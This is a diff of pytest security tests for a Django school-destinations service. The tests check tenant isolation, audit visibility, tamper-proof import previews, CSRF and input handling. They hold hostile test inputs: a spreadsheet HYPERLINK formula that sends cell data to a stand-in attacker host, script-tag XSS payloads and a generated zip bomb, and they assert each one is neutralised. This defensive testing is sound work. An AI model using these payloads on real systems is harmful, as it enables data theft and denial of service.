@@ -26,6 +26,7 @@ import csv
 import datetime as dt
 import io
 import re
+import zipfile
 from typing import Any
 
 import pytest
@@ -35,14 +36,15 @@ from django.urls import reverse
 
 from qic.core.models import AuditEvent
 from qic.destinations import import_views
-from qic.destinations.models import Destination, DfeFigure
+from qic.destinations.models import Destination, DfeFigure, DfeRelease
 from qic.domain import destinations as rules
 from qic.domain.academic import year_label
 from qic.learners.models import Learner
-from qic.organisations.models import Provider, User
+from qic.organisations.models import Provider, Role, User
 from tests.conftest import Cast
 from tests.destinations import analysis_helpers as ah
-from tests.destinations.entry_factories import destination, last_cohort, leaver, upn
+from tests.destinations.entry_factories import destination, last_cohort, leaver, today, upn
+from tests.factories import make_member
 
 pytestmark = pytest.mark.django_db
 
@@ -368,3 +370,434 @@ def test_a_file_with_a_header_and_no_rows_says_so(cast: Cast) -> None:
     page = upload(signed_in(cast.p1_leader), cast.p1, b"UPN,destination,date\r\n").content.decode()
     assert "already recorded" not in page
     assert "The file has no rows below its header" in page
+
+
+# =================================================================================================
+# What held: kept as tests so that it keeps holding.
+# =================================================================================================
+
+LEARNER_PAGES = (
+    "destinations:home",
+    "destinations:cohort",
+    "destinations:import",
+    "destinations:import_template",
+)
+
+
+def _learner_urls(provider: Provider, learner: Learner, saved: Destination) -> list[str]:
+    urn = provider.urn
+    year = last_cohort()
+    return [
+        *(reverse(name, args=[urn]) for name in LEARNER_PAGES),
+        f"{reverse('destinations:cohort', args=[urn])}?stage=ks4&year={year}",
+        reverse("destinations:learner", args=[urn, learner.pk]),
+        reverse("destinations:destination_add", args=[urn, learner.pk]),
+        reverse("destinations:destination_change", args=[urn, learner.pk, saved.pk]),
+        reverse("destinations:destination_remove", args=[urn, learner.pk, saved.pk]),
+    ]
+
+
+@pytest.fixture
+def everyone(walk_cast: Cast) -> dict[str, User]:
+    cast = walk_cast
+    people = {
+        name: cast.user(name)
+        for name in (
+            "p2_leader",
+            "ab2_admin",
+            "assessor_unassigned",
+            "consortium",
+            "p1_governor",
+            "ab1_admin",
+            "assessor_assigned",
+            "p1_learner",
+            "p2_learner",
+        )
+    }
+    people["p2_staff"] = make_member(Role.PROVIDER_STAFF, provider=cast.p2, email="staff2@example.org")
+    people["p2_governor"] = make_member(Role.GOVERNOR, provider=cast.p2, email="governor2@example.org")
+    return {name: user for name, user in people.items() if user is not None}
+
+
+def test_nobody_outside_school_as_staff_reads_or_changes_its_learners_destinations(
+    walk_cast: Cast, everyone: dict[str, User], school_a: tuple
+) -> None:
+    """Every role of school B, the Awarding Bodies, both assessors, the Consortium, school A's
+    governor and learners: 404 (another tenant) or 403 (a role without learners' records), on
+    every page and every POST, with nothing of school A's learner in the answer."""
+    learner, saved = school_a
+    cast = walk_cast
+    own_b = leaver(cast.p2, 8, year=last_cohort(), forename="Bea", surname="Own")
+    own_b_destination = destination(own_b, on=dt.date(last_cohort() + 1, 9, 1))
+    for name, user in everyone.items():
+        client = signed_in(user)
+        urls = _learner_urls(cast.p1, learner, saved)
+        # School B's own URLs naming school A's learner and destination.
+        urls += [
+            reverse("destinations:learner", args=[cast.p2.urn, learner.pk]),
+            reverse("destinations:destination_change", args=[cast.p2.urn, learner.pk, saved.pk]),
+            reverse("destinations:destination_change", args=[cast.p2.urn, own_b.pk, saved.pk]),
+            reverse("destinations:destination_remove", args=[cast.p2.urn, own_b.pk, saved.pk]),
+        ]
+        for url in urls:
+            for response in (client.get(url), client.post(url, {"kind": "actual", "category": "neet"})):
+                assert response.status_code in (403, 404, 405), (name, url, response.status_code)
+                no_secret(response.content.decode())
+    saved.refresh_from_db()
+    assert (saved.category, saved.detail) == ("sfc", SECRET_PLACE)
+    assert Destination.objects.count() == 2
+    assert own_b_destination.pk in Destination.objects.values_list("pk", flat=True)
+
+
+@pytest.mark.parametrize("who", ["p2_leader", "ab2_admin", "assessor_unassigned", "consortium"])
+def test_the_analysis_of_school_a_is_not_found_or_refused_for_others(cast: Cast, school_a: tuple, who: str) -> None:
+    client = signed_in(cast.user(who))
+    for name in ("destinations:analysis", "destinations:analysis_export"):
+        response = client.get(reverse(name, args=[cast.p1.urn]))
+        assert response.status_code in (403, 404)
+        no_secret(response.content.decode())
+
+
+@pytest.mark.parametrize("who", ["p1_governor", "ab1_admin", "assessor_assigned", "p1_staff", "p1_leader"])
+def test_the_analysis_and_its_csv_name_no_learner_and_say_nowhere_where(cast: Cast, school_a: tuple, who: str) -> None:
+    client = signed_in(cast.user(who))
+    page = client.get(reverse("destinations:analysis", args=[cast.p1.urn]))
+    export = client.get(reverse("destinations:analysis_export", args=[cast.p1.urn]))
+    assert page.status_code == export.status_code == 200
+    no_secret(page.content.decode())
+    no_secret(export.content.decode("utf-8-sig"))
+
+
+def test_no_destination_event_is_visible_to_the_governor_the_awarding_body_or_the_consortium(
+    cast: Cast, school_a: tuple
+) -> None:
+    from qic.organisations.access import visible_audit_events
+
+    learner, saved = school_a
+    leader = signed_in(cast.p1_leader)
+    leader.get(reverse("destinations:learner", args=[cast.p1.urn, learner.pk]))
+    leader.get(f"{reverse('destinations:cohort', args=[cast.p1.urn])}?stage=ks4&year={last_cohort()}")
+    leader.post(reverse("destinations:destination_remove", args=[cast.p1.urn, learner.pk, saved.pk]))
+    year = last_cohort()
+    page = upload(leader, cast.p1, f"UPN,destination,date\r\n{upn(7)},FE,01/09/{year + 1}\r\n".encode())
+    assert confirm(leader, cast.p1, page.content.decode()).status_code == 302
+    actions = {
+        "learner.destinations_viewed",
+        "destinations.cohort_viewed",
+        "destination.removed",
+        "destinations.import_previewed",
+        "destination.created",
+        "destinations.imported",
+    }
+    events = AuditEvent.objects.filter(action__in=actions)
+    assert {e.action for e in events} == actions
+    assert all(e.learner_data for e in events)
+    assert {e.learner_id_ref for e in events if e.action.startswith(("learner.", "destination."))} == {learner.pk}
+    assert set(visible_audit_events(cast.p1_leader).filter(action__in=actions).values_list("action", flat=True)) == (
+        actions
+    )
+    for who in ("p1_staff", "p1_governor", "ab1_admin", "assessor_assigned", "consortium", "p2_leader"):
+        assert not visible_audit_events(cast.user(who)).filter(action__in=actions).exists(), who
+
+
+def test_the_dfe_load_is_audited_without_learner_data_for_the_consortium(cast: Cast) -> None:
+    from qic.organisations.access import visible_audit_events
+
+    client = signed_in(cast.consortium)
+    assert _load(client, DFE_HEADER + _dfe_row()).status_code == 302
+    event = AuditEvent.objects.get(action="destinations.dfe_loaded")
+    assert not event.learner_data
+    assert event.learner_id_ref is None
+    assert visible_audit_events(cast.consortium).filter(pk=event.pk).exists()
+    assert not visible_audit_events(cast.p1_leader).filter(pk=event.pk).exists()
+
+
+# --- The import's signed preview ------------------------------------------------------------------
+
+
+def _previewed(cast: Cast, client: Client) -> str:
+    year = last_cohort()
+    text = f"UPN,destination,date,where\r\n{upn(7)},HE,01/10/{year + 1},{SECRET_PLACE}\r\n"
+    page = upload(client, cast.p1, text.encode()).content.decode()
+    assert 'name="confirm"' in page
+    return page
+
+
+def test_school_as_signed_plan_replayed_by_school_b_writes_nothing_and_names_nobody(
+    cast: Cast, school_a: tuple
+) -> None:
+    page = _previewed(cast, signed_in(cast.p1_leader))
+    b = signed_in(cast.p2_leader)
+    data = {"confirm": hidden(page, "confirm"), "expected": hidden(page, "expected")}
+    own = b.post(import_url(cast.p2), data)
+    assert own.status_code == 200
+    assert "The preview has expired or was changed" in own.content.decode()
+    no_secret(own.content.decode())
+    assert b.post(import_url(cast.p1), data).status_code == 404
+    assert Destination.objects.count() == 1
+
+
+def test_another_careers_leader_of_the_same_school_cannot_replay_the_plan(cast: Cast, school_a: tuple) -> None:
+    page = _previewed(cast, signed_in(cast.p1_leader))
+    other = signed_in(make_member(Role.CAREERS_LEADER, provider=cast.p1, email="leader1b@example.org"))
+    response = other.post(
+        import_url(cast.p1), {"confirm": hidden(page, "confirm"), "expected": hidden(page, "expected")}
+    )
+    assert "The preview has expired or was changed" in response.content.decode()
+    assert Destination.objects.count() == 1
+
+
+@pytest.mark.parametrize("tamper", ["confirm", "expected"])
+def test_a_tampered_plan_writes_nothing(cast: Cast, school_a: tuple, tamper: str) -> None:
+    leader = signed_in(cast.p1_leader)
+    page = _previewed(cast, leader)
+    data = {"confirm": hidden(page, "confirm"), "expected": hidden(page, "expected")}
+    value = data[tamper]
+    data[tamper] = value[:-3] + ("A" if value[-3] != "A" else "B") + value[-2:]
+    body = leader.post(import_url(cast.p1), data).content.decode()
+    assert ("expired or was changed" if tamper == "confirm" else "The destinations changed since you checked") in body
+    assert Destination.objects.count() == 1
+
+
+def test_double_submit_and_a_confirm_after_the_data_changed_write_nothing_twice(cast: Cast, school_a: tuple) -> None:
+    learner, _ = school_a
+    leader = signed_in(cast.p1_leader)
+    page = _previewed(cast, leader)
+    assert confirm(leader, cast.p1, page).status_code == 302
+    again = confirm(leader, cast.p1, page)
+    assert again.status_code == 200
+    assert "The destinations changed since you checked" in again.content.decode()
+    assert Destination.objects.filter(learner=learner, category="he").count() == 1
+    assert AuditEvent.objects.filter(action="destinations.imported").count() == 1
+    # Someone records one of the file's destinations between the preview and the confirm.
+    year = last_cohort()
+    page = upload(leader, cast.p1, f"UPN,destination,date\r\n{upn(7)},NEET,02/10/{year + 1}\r\n".encode())
+    destination(learner, category="neet", on=dt.date(year + 1, 10, 2))
+    stale = confirm(leader, cast.p1, page.content.decode())
+    assert "The destinations changed since you checked" in stale.content.decode()
+    assert Destination.objects.filter(learner=learner, category="neet").count() == 1
+
+
+def test_a_post_without_the_csrf_token_is_refused(cast: Cast, school_a: tuple) -> None:
+    learner, saved = school_a
+    client = signed_in(cast.p1_leader, enforce_csrf_checks=True)
+    for url in (
+        import_url(cast.p1),
+        reverse("destinations:destination_add", args=[cast.p1.urn, learner.pk]),
+        reverse("destinations:destination_remove", args=[cast.p1.urn, learner.pk, saved.pk]),
+    ):
+        assert client.post(url, {"kind": "actual"}).status_code == 403
+    assert Destination.objects.filter(pk=saved.pk).exists()
+
+
+# --- The import's files ----------------------------------------------------------------------------
+
+
+def _zip_bomb() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 20_000_000)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (_zip_bomb(), "File is an Excel workbook (or a ZIP archive), not CSV"),
+        (b"UPN,destination,date\r\n" + b"x," * 1_200_000, "The file must be smaller than 2 MB"),
+        (b"UPN,destination,date,where\r\nA,FE,1/9/2025," + b"x" * 200_000 + b"\r\n", "field larger than field limit"),
+        (b"UPN,destination,date\r\nA\x00,FE,1/9/2025\r\n", "contains NUL bytes"),
+        (b"a,b\r\n1,2\r\n", "Missing required columns: UPN or ULN, destination, date"),
+        (b'UPN,destination,date\r\n"A,FE,1/9/2025\r\n', "File is not valid CSV"),
+        (b"", "The selected file is empty"),
+    ],
+)
+def test_files_that_cannot_be_read_are_refused_whole(cast: Cast, content: bytes, message: str) -> None:
+    response = upload(signed_in(cast.p1_leader), cast.p1, content)
+    assert response.status_code == 200
+    assert message in response.content.decode()
+    assert 'name="confirm"' not in response.content.decode()
+
+
+def test_bad_values_are_reported_by_line_and_column_and_other_schools_upns_read_as_unknown(cast: Cast) -> None:
+    year = last_cohort()
+    leaver(cast.p1, 7, year=year)
+    other = leaver(cast.p2, 9, year=year, forename=SECRET_FORENAME, surname=SECRET_SURNAME)
+    rows = [
+        f"{upn(7)},actual,FE,31/02/{year + 1},yes,x",
+        f"{upn(7)},actual,FE,01/09/1900,yes,x",
+        f"{upn(7)},actual,FE,01/09/2100,yes,x",
+        f"{upn(7)},actual,<b>FE</b>,01/09/{year + 1},yes,x",
+        f"{other.upn},actual,FE,01/09/{year + 1},yes,x",
+        f"{upn(99)},actual,FE,01/09/{year + 1},yes,x",
+        f"{upn(7)},intended,FE,01/09/{year},yes,x",
+    ]
+    text = "UPN,kind,destination,date,sustained,where\r\n" + "\r\n".join(rows) + "\r\n"
+    page = upload(signed_in(cast.p1_leader), cast.p1, text.encode()).content.decode()
+    assert "not a real date" in page
+    assert "must be on or after 1 January 2000" in page
+    assert "must be today or in the past" in page
+    assert "“&lt;b&gt;FE&lt;/b&gt;” is not a destination we know" in page
+    assert f"none of your learners has UPN {other.upn}" in page
+    assert f"none of your learners has UPN {upn(99)}" in page
+    assert "only an actual destination can be sustained" in page
+    assert SECRET_SURNAME not in page
+    assert SECRET_FORENAME not in page
+    assert 'name="confirm"' not in page
+
+
+def test_a_formula_in_where_stays_text_escaped_on_the_page_and_out_of_every_csv(cast: Cast) -> None:
+    year = last_cohort()
+    learner = leaver(cast.p1, 7, year=year)
+    formula = '=HYPERLINK("http://e.vil/?"&A1,"Click")'
+    quoted = formula.replace('"', '""')
+    text = f'UPN,destination,date,sustained,where\r\n{upn(7)},FE,01/09/{year + 1},yes,"{quoted}"\r\n'
+    leader = signed_in(cast.p1_leader)
+    page = upload(leader, cast.p1, text.encode()).content.decode()
+    assert "=HYPERLINK(&quot;http://e.vil/?&quot;&amp;A1,&quot;Click&quot;)" in page
+    assert confirm(leader, cast.p1, page).status_code == 302
+    assert Destination.objects.get().detail == formula
+    shown = leader.get(reverse("destinations:learner", args=[cast.p1.urn, learner.pk])).content.decode()
+    assert "=HYPERLINK(&quot;" in shown
+    for name in ("destinations:analysis_export", "destinations:import_template"):
+        assert "HYPERLINK" not in leader.get(reverse(name, args=[cast.p1.urn])).content.decode("utf-8-sig")
+
+
+def test_duplicate_rows_are_left_out_and_rows_that_disagree_refused(cast: Cast) -> None:
+    year = last_cohort()
+    leaver(cast.p1, 7, year=year)
+    row = f"{upn(7)},FE,01/09/{year + 1},yes"
+    leader = signed_in(cast.p1_leader)
+    same = upload(leader, cast.p1, f"UPN,destination,date,sustained\r\n{row}\r\n{row}\r\n".encode()).content.decode()
+    assert "the same as line 2" in same
+    assert confirm(leader, cast.p1, same).status_code == 302
+    assert Destination.objects.count() == 1
+    differ = f"UPN,destination,date,sustained\r\n{row}\r\n{row[:-3]}no\r\n"
+    page = upload(leader, cast.p1, differ.encode()).content.decode()
+    assert "the two rows disagree" in page
+    assert 'name="confirm"' not in page
+
+
+# --- The forms -----------------------------------------------------------------------------------
+
+FUZZ: list[dict[str, Any]] = [
+    {},
+    {"kind": "both", "category": "moon", "sustained": "maybe"},
+    {"detail": "x" * 201},
+    {"detail": "a\x00b"},
+    {"detail": "<script>alert(1)</script>", "recorded_on_day": "31", "recorded_on_month": "2"},
+    {"detail": "Zoë 🚀 \u202e evil", "recorded_on_day": "9" * 40},
+    {"recorded_on_day": "-1", "recorded_on_month": "13", "recorded_on_year": "99999"},
+    {"recorded_on_day": "١", "recorded_on_month": "٩", "recorded_on_year": "٢٠٢٥"},
+    {"recorded_on": "99999-01-01"},
+    {"recorded_on_year": "1900"},
+    {"recorded_on_year": "2100"},
+    {"kind": ["actual", "intended"], "category": ["fe", "he"]},
+    {"seen": "garbage" * 5000},
+    {"kind": "intended", "category": "unknown"},
+]
+
+
+@pytest.mark.parametrize("fields", FUZZ)
+def test_fuzzed_forms_never_fail_and_never_save_nonsense(cast: Cast, school_a: tuple, fields: dict[str, Any]) -> None:
+    learner, saved = school_a
+    year = last_cohort()
+    base: dict[str, Any] = {
+        "kind": "actual",
+        "category": "fe",
+        "recorded_on_day": "1",
+        "recorded_on_month": "10",
+        "recorded_on_year": str(year + 1),
+        "sustained": "True",
+        "detail": "A place",
+    }
+    data = {**base, **fields} if fields else {}
+    leader = signed_in(cast.p1_leader)
+    for url in (
+        reverse("destinations:destination_add", args=[cast.p1.urn, learner.pk]),
+        reverse("destinations:destination_change", args=[cast.p1.urn, learner.pk, saved.pk]),
+    ):
+        response = leader.post(url, data)
+        assert response.status_code in (200, 302)
+        body = response.content.decode()
+        assert "<script>alert" not in body
+        if response.status_code == 200:
+            assert "govuk-error-summary" in body
+    for kept in Destination.objects.all():
+        assert "\x00" not in kept.detail
+        assert len(kept.detail) <= 200
+        assert dt.date(2000, 1, 1) <= kept.recorded_on <= today()
+
+
+def test_a_pk_too_long_for_the_database_is_not_found(cast: Cast, school_a: tuple) -> None:
+    learner, _ = school_a
+    leader = signed_in(cast.p1_leader)
+    huge = 10**30
+    for url in (
+        f"/providers/{cast.p1.urn}/learners/{huge}/destinations/",
+        f"/providers/{cast.p1.urn}/learners/{learner.pk}/destinations/{huge}/change/",
+        f"/providers/{cast.p1.urn}/learners/{learner.pk}/destinations/{huge}/remove/",
+        f"/providers/{huge}/destinations/",
+        f"{reverse('destinations:cohort', args=[cast.p1.urn])}?stage=ks4&year={huge}",
+        f"{reverse('destinations:cohort', args=[cast.p1.urn])}?stage=ks4%00&year=x",
+    ):
+        assert leader.get(url).status_code == 404, url
+    assert signed_in(cast.consortium).get(f"/consortium/destinations/{huge}/").status_code == 404
+
+
+def test_an_anonymised_learners_destinations_cannot_be_changed_by_any_route(cast: Cast, school_a: tuple) -> None:
+    from qic.programme.data_protection import anonymise_learner
+
+    learner, saved = school_a
+    anonymise_learner(learner=learner, reason="Asked to be forgotten", actor=cast.p1_leader)
+    leader = signed_in(cast.p1_leader)
+    year = last_cohort()
+    form = {
+        "kind": "actual",
+        "category": "neet",
+        "recorded_on_day": "1",
+        "recorded_on_month": "10",
+        "recorded_on_year": str(year + 1),
+    }
+    for name, args in (
+        ("destinations:destination_add", [cast.p1.urn, learner.pk]),
+        ("destinations:destination_change", [cast.p1.urn, learner.pk, saved.pk]),
+        ("destinations:destination_remove", [cast.p1.urn, learner.pk, saved.pk]),
+    ):
+        assert leader.post(reverse(name, args=args), form).status_code == 302
+    # Its UPN is gone, so a file naming it reads as nobody's.
+    page = upload(leader, cast.p1, f"UPN,destination,date\r\n{SECRET_UPN},FE,01/10/{year + 1}\r\n".encode())
+    assert f"none of your learners has UPN {SECRET_UPN}" in page.content.decode()
+    saved.refresh_from_db()
+    assert (saved.category, saved.detail) == ("sfc", "")
+    assert Destination.objects.count() == 1
+
+
+# --- The DfE pages ----------------------------------------------------------------------------------
+
+
+def test_an_area_name_with_markup_is_escaped_on_the_consortiums_and_the_schools_pages(cast: Cast) -> None:
+    evil = "<script>alert(1)</script>"
+    year = rules.cohort_years(today())[1]
+    time_period = rules.dfe_time_period(year)
+    row = _dfe_row(name=evil).replace("202324", time_period)
+    response = _load(signed_in(cast.consortium), DFE_HEADER + row)
+    assert response.status_code == 302
+    release = DfeRelease.objects.get()
+    assert evil not in signed_in(cast.consortium).get(response["Location"]).content.decode()
+    assert release.figures_created == 1
+    Provider.objects.filter(pk=cast.p1.pk).update(la_code="201", la_name="")
+    ah.leavers(cast.p1, year, 6)
+    page = signed_in(cast.p1_governor).get(reverse("destinations:analysis", args=[cast.p1.urn])).content.decode()
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert evil not in page
+
+
+def test_loading_the_same_file_again_changes_nothing(cast: Cast) -> None:
+    client = signed_in(cast.consortium)
+    text = DFE_HEADER + _dfe_row() + _dfe_row().replace(",201,", ",202,")
+    assert _load(client, text).status_code == 302
+    assert _load(client, text).status_code == 302
+    first, second = DfeRelease.objects.order_by("pk")
+    assert (first.figures_created, second.figures_created, second.figures_unchanged) == (2, 0, 2)
+    assert DfeFigure.objects.count() == 2
